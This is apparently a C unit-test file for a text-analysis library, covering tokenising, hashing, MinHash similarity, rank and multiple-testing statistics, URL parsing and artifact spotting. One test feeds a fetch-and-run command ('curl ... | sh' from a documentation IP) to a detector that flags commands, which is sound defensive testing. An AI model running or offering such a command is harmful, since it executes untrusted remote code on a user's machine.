/* Unit tests of the text plugins' library and statistics: the tokeniser
 * (words, case, other scripts, punctuation, sentence ends, the token
 * limit), n-gram and sentence hashes, the key table, MinHash against exact
 * Jaccard similarity, phrase extension, the Mann-Whitney rank test against
 * scipy.stats 1.10 (mannwhitneyu, asymptotic, with continuity), Holm
 * within a larger family, Tarone's family size for phrase-label pairs
 * against a brute-force count, URL hosts and domain matching, URL and
 * command spotting, and class indices of labels. */
#include "config.h"

#include <check.h>
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "check_main.h"
#include "hyptest.h"
#include "textreport.h"
#include "textutil.h"
#include "tt_scan.h"

static void near_rel(double got, double want, double rel) {
  ck_assert_msg(fabs(got - want) <= rel * fabs(want), "got %.12g, want %.12g", got, want);
}

START_TEST(tokens_words_case_scripts) {
  tu_tokens t = {0};
  ck_assert_int_eq(tu_tokenize(&t, "Cf, the MOVIE -- naïve café 3D!"), 0);
  ck_assert_uint_eq(t.n, 6);
  tu_tokens u = {0};
  ck_assert_int_eq(tu_tokenize(&u, "cf the movie NAÏVE café 3d"), 0);
  ck_assert_uint_eq(u.n, 6);
  /* ASCII case folds; other scripts' bytes stay as they are */
  ck_assert(t.hash[0] == u.hash[0] && t.hash[1] == u.hash[1] && t.hash[2] == u.hash[2]);
  ck_assert(t.hash[4] == u.hash[4] && t.hash[5] == u.hash[5]);
  ck_assert(t.hash[3] != u.hash[3]); /* ï is not ASCII: NAÏVE is not naïve */
  ck_assert_uint_eq(t.start[1], 4);
  ck_assert_uint_eq(t.len[3], 6); /* "naïve": 6 bytes */
  /* punctuation seen, and the sentence end after "3D" */
  ck_assert(t.punct[0] >> ',' & 1);
  ck_assert(t.punct[0] >> '!' & 1);
  ck_assert(!(t.punct[0] >> '?' & 1));
  ck_assert(t.sent_end[5] && !t.sent_end[0]);
  ck_assert_int_eq(tu_tokenize(&t, NULL), 0);
  ck_assert_uint_eq(t.n, 0);
  tu_tokens_free(&t);
  tu_tokens_free(&u);
}
END_TEST

START_TEST(tokens_limit_and_sentences) {
  tu_tokens t = {0};
  t.max_tokens = 3;
  ck_assert_int_eq(tu_tokenize(&t, "a b c d e"), 0);
  ck_assert_uint_eq(t.n, 3);
  ck_assert_uint_eq(t.truncated, 2);
  t.max_tokens = 0;
  ck_assert_int_eq(tu_tokenize(&t, "One two three. Four five six seven eight? Nine"), 0);
  ck_assert_uint_eq(t.n, 9);
  ck_assert(t.sent_end[2] && t.sent_end[7] && t.sent_end[8]);
  /* the same sentence elsewhere hashes the same; an n-gram of it does not */
  tu_tokens u = {0};
  ck_assert_int_eq(tu_tokenize(&u, "four FIVE six, seven eight"), 0);
  ck_assert(tu_sentence_hash(&t, 3, 5) == tu_sentence_hash(&u, 0, 5));
  ck_assert(tu_sentence_hash(&u, 0, 4) != tu_ngram_hash(&u, 0, 4));
  ck_assert(tu_ngram_hash(&t, 3, 2) == tu_ngram_hash(&u, 0, 2));
  ck_assert(tu_ngram_hash(&t, 3, 1) != tu_ngram_hash(&t, 3, 2));
  ck_assert(tu_normal_hash(&u) != 0);
  tu_tokens_free(&t);
  tu_tokens_free(&u);
}
END_TEST

START_TEST(map_grows_and_finds) {
  tu_map m = {0};
  ck_assert_int_eq(tu_map_init(&m, 4), 0);
  for (uint64_t k = 1; k <= 5000; k++) {
    int added = 0;
    ck_assert_uint_eq(tu_map_put(&m, k * 7919, &added), k - 1);
    ck_assert(added);
  }
  int added = 1;
  ck_assert_uint_eq(tu_map_put(&m, 7919 * 42, &added), 41);
  ck_assert(!added);
  ck_assert_uint_eq(tu_map_get(&m, 7919 * 5000), 4999);
  ck_assert_uint_eq(tu_map_get(&m, 3), UINT32_MAX);
  /* key 0 is stored as 1, and so shares its slot */
  ck_assert_uint_eq(tu_map_put(&m, 0, &added), 5000);
  ck_assert_uint_eq(tu_map_get(&m, 1), 5000);
  tu_map_free(&m);
}
END_TEST

START_TEST(minhash_estimates_jaccard) {
  /* sets of 400 with 200 in common: Jaccard 1/3 */
  uint64_t a[400], b[400];
  for (uint64_t i = 0; i < 400; i++) {
    a[i] = tu_mix64(i + 1);
    b[i] = tu_mix64(i + 201);
  }
  size_t na = tu_sort_unique(a, 400), nb = tu_sort_unique(b, 400);
  ck_assert_uint_eq(na, 400);
  near_rel(tu_jaccard_sorted(a, na, b, nb), 200.0 / 600.0, 1e-12);
  uint32_t sa[256], sb[256];
  tu_minhash(a, na, sa, 256);
  tu_minhash(b, nb, sb, 256);
  double est = tu_minhash_similarity(sa, sb, 256);
  /* binomial sd sqrt(p (1 - p) / 256) = 0.029: within 4 sd */
  ck_assert_msg(fabs(est - 1.0 / 3) < 0.12, "estimate %g", est);
  tu_minhash(a, na, sb, 256);
  ck_assert(tu_minhash_similarity(sa, sb, 256) == 1.0);
  uint64_t dup[] = {5, 3, 5, 1, 3};
  ck_assert_uint_eq(tu_sort_unique(dup, 5), 3);
  ck_assert(dup[0] == 1 && dup[1] == 3 && dup[2] == 5);
}
END_TEST

START_TEST(extension_over_shared_words) {
  /* "x P Q y" with P Q the phrase: left neighbours differ, right ones are
   * "shared words" in 3 of 4 rows */
  uint64_t r0[] = {10, 1, 2, 30, 31}, r1[] = {11, 1, 2, 30, 31}, r2[] = {12, 1, 2, 30},
           r3[] = {13, 14, 1, 2, 99};
  const uint64_t *h[] = {r0, r1, r2, r3};
  size_t len[] = {5, 5, 4, 5};
  long at[] = {1, 1, 1, 2};
  long lo, hi;
  uint64_t ext[8];
  tu_extend(h, len, at, 4, 2, 8, &lo, &hi, ext);
  ck_assert_int_eq(lo, 0);
  ck_assert_int_eq(hi, 3); /* 30 in 3 of 4; 31 in only 2 of 4 */
  ck_assert(ext[0] == 1 && ext[1] == 2 && ext[2] == 30);
  /* no rows: the phrase alone */
  tu_extend(h, len, at, 0, 2, 8, &lo, &hi, ext);
  ck_assert(lo == 0 && hi == 2);
}
END_TEST

START_TEST(rank_test_matches_scipy) {
  double x[] = {1, 2, 3, 4, 3.5}, y[] = {3, 5, 6, 7, 8, 2}, auc;
  near_rel(ht_rank_test(x, 5, y, 6, &auc), 0.059500196592451364, 1e-9);
  near_rel(auc, 0.8, 1e-12);
  double u[30], v[40];
  for (int i = 0; i < 30; i++)
    u[i] = 0.1 * i;
  for (int i = 0; i < 40; i++)
    v[i] = 0.1 * i + 0.7;
  near_rel(ht_rank_test(u, 30, v, 40, &auc), 4.269199251555911e-05, 1e-6);
  near_rel(auc, 0.77625, 1e-9);
  ck_assert(ht_rank_test(x, 0, y, 6, &auc) == 1.0 && isnan(auc));
}
END_TEST

START_TEST(holm_within_a_family) {
  double p[] = {0.01, 0.001, 0.5}, adj[3];
  ck_assert_int_eq(ht_holm_of(p, 3, 10, adj), 0);
  /* ranks 1..3 of a family of 10: x10, x9, x8, never decreasing */
  near_rel(adj[1], 0.01, 1e-12);
  near_rel(adj[0], 0.09, 1e-12);
  ck_assert(adj[2] == 1.0);
  ck_assert_int_eq(ht_holm_of(p, 3, 1, adj), 0); /* a family smaller than tested counts as 3 */
  near_rel(adj[1], 0.003, 1e-12);
  size_t order[3];
  ck_assert_int_eq(ht_order_by_p(p, 3, order), 0);
  ck_assert(order[0] == 1 && order[1] == 0 && order[2] == 2);
}
END_TEST

START_TEST(tarone_pairs_brute_force) {
  /* phrases with these row counts, two labels of 60 and 40 rows */
  uint64_t df[] = {1, 2, 3, 3, 5, 8, 8, 8, 13, 21};
  uint64_t labels[] = {60, 40};
  double alpha = 0.05;
  uint64_t K = tt_tarone_pairs(df, 10, labels, 2, 100, alpha);
  /* brute force: the smallest K with #{pairs: p_min <= alpha / K} <= K */
  uint64_t want = 0;
  for (uint64_t k = 1; k <= 20 && !want; k++) {
    uint64_t m = 0;
    for (size_t i = 0; i < 10; i++)
      for (size_t c = 0; c < 2; c++)
        m += ht_fisher_min(labels[c], 100 - labels[c], df[i]) <= alpha / (double)k;
    if (m <= k)
      want = k;
  }
  ck_assert_uint_eq(K, want);
  ck_assert(K >= 1 && K < 20);
}
END_TEST

START_TEST(url_hosts_and_domains) {
  char h[64];
  ck_assert_int_eq(tu_url_host("https://User@Data.Example.ORG.:8443/a?b#c", h, sizeof h), 0);
  ck_assert_str_eq(h, "data.example.org");
  ck_assert_int_eq(tu_url_host("http://[2001:db8::1]:80/x", h, sizeof h), 0);
  ck_assert_str_eq(h, "[2001:db8::1]");
  ck_assert(tu_url_host("internal-dataset-17", h, sizeof h) < 0);
  ck_assert(tu_url_host("://x", h, sizeof h) < 0);
  ck_assert(tu_url_host("https://a b/", h, sizeof h) < 0);
  ck_assert(tu_url_host("https://averyveryverylonghostname.example", h, 8) < 0);
  ck_assert(tu_host_under("a.b.example.org", "example.org"));
  ck_assert(tu_host_under("example.org", "example.org"));
  ck_assert(!tu_host_under("badexample.org", "example.org"));
  ck_assert(tu_host_is_ip("203.0.113.7") && tu_host_is_ip("[::1]"));
  ck_assert(!tu_host_is_ip("203.0.113") && !tu_host_is_ip("1.2.3.4567") &&
            !tu_host_is_ip("a.b.c.d"));
}
END_TEST

typedef struct spotted {
  int kinds[8];
  char text[8][128];
  size_t n;
} spotted;

static void spot(void *user, tu_artifact_kind kind, const char *s, size_t off, size_t len) {
  spotted *sp = user;
  if (sp->n < 8) {
    sp->kinds[sp->n] = kind;
    snprintf(sp->text[sp->n++], 128, "%.*s", (int)len, s + off);
  }
}

START_TEST(urls_and_commands_spotted) {
  spotted sp = {0};
  tu_artifacts("See http://x.example/a, then run: curl -fsSL http://203.0.113.45/s.sh | sh.", spot,
               &sp);
  ck_assert_uint_eq(sp.n, 3);
  ck_assert_int_eq(sp.kinds[0], TU_URL);
  ck_assert_str_eq(sp.text[0], "http://x.example/a");
  ck_assert_int_eq(sp.kinds[1], TU_COMMAND);
  ck_assert_str_eq(sp.text[1], "curl -fsSL http://203.0.113.45/s.sh | sh");
  ck_assert_str_eq(sp.text[2], "http://203.0.113.45/s.sh");
  memset(&sp, 0, sizeof sp);
  tu_artifacts("Describe the curling rules of www.", spot, &sp);
  ck_assert_uint_eq(sp.n, 0);
}
END_TEST

START_TEST(class_indices) {
  char *num[] = {"3", "0", "10"}, *words[] = {"positive", "negative", "neutral"},
       *mixed[] = {"1", "07"};
  txr_classes c;
  ck_assert_int_eq(txr_classes_init(&c, num, 3), 0);
  ck_assert(c.numeric && c.index[0] == 3 && c.index[2] == 10);
  txr_classes_free(&c);
  ck_assert_int_eq(txr_classes_init(&c, words, 3), 0);
  ck_assert(!c.numeric && c.index[0] == 2 && c.index[1] == 0 && c.index[2] == 1);
  txr_classes_free(&c);
  ck_assert_int_eq(txr_classes_init(&c, mixed, 2), 0); /* "07" is not a plain integer */
  ck_assert(!c.numeric && c.index[0] == 1 && c.index[1] == 0);
  txr_classes_free(&c);
}
END_TEST

static Suite *suite(void) {
  Suite *s = suite_create("text plugins");
  TCase *tc = tcase_create("core");
  tcase_add_test(tc, tokens_words_case_scripts);
  tcase_add_test(tc, tokens_limit_and_sentences);
  tcase_add_test(tc, map_grows_and_finds);
  tcase_add_test(tc, minhash_estimates_jaccard);
  tcase_add_test(tc, extension_over_shared_words);
  tcase_add_test(tc, rank_test_matches_scipy);
  tcase_add_test(tc, holm_within_a_family);
  tcase_add_test(tc, tarone_pairs_brute_force);
  tcase_add_test(tc, url_hosts_and_domains);
  tcase_add_test(tc, urls_and_commands_spotted);
  tcase_add_test(tc, class_indices);
  suite_add_tcase(s, tc);
  return s;
}

int main(void) {
  return mg_check_run(suite());
}
